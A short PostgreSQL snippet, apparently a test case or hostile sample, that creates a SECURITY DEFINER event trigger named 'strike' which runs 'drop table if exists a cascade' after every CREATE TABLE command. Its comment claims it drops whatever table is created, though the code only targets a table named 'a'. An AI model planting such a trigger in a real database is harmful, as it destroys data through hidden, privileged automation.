-- Tries: to drop whatever table somebody creates.
create function strike() returns event_trigger language plpgsql security definer as $$ begin if tg_tag = 'CREATE TABLE' then drop table if exists a cascade; end if; end $$; create event trigger strike on ddl_command_end execute function strike();
